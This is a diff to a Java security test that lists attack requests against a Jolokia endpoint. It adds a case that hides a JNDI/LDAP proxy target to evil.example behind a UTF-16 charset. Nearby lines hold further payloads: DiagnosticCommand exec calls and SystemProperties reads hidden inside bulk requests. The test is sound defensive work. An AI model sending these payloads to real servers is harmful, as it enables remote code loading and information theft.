@@ -107,6 +107,9 @@ class JolokiaAttackTest {
         attacks.add(post("proxy read with an http target", withTarget(read("java.lang:type=Memory", "HeapMemoryUsage"), "http://evil.example/jolokia")));
         attacks.add(post("proxy target in options", "{\"type\":\"version\",\"options\":{\"target\":{\"url\":\"service:jmx:rmi:///jndi/ldap://evil.example/x\"}}}"));
         attacks.add(post("proxy target in one bulk item", "[" + read(PROBE, "Limit") + "," + withTarget(read("java.lang:type=Memory", "Used"), "service:jmx:rmi:///jndi/ldap://evil.example/x") + "]"));
+        attacks.add(withHeaders("proxy target hidden in another charset", "POST", "",
+                withTarget(read("java.lang:type=Memory", "Used"), "service:jmx:rmi:///jndi/ldap://evil.example/x"),
+                Map.of("Content-Type", "application/json; charset=UTF-16")));
         // Bulk with one forbidden item inside.
         attacks.add(post("bulk with a DiagnosticCommand exec inside", "[" + read(PROBE, "Limit") + "," + exec(DIAG, "vmSystemProperties", "") + "," + read("java.lang:type=Memory", "HeapMemoryUsage") + "]"));
         attacks.add(post("bulk with a SystemProperties read inside", "[" + read(PROBE, "Limit") + "," + read("java.lang:type=Runtime", "SystemProperties") + "]"));
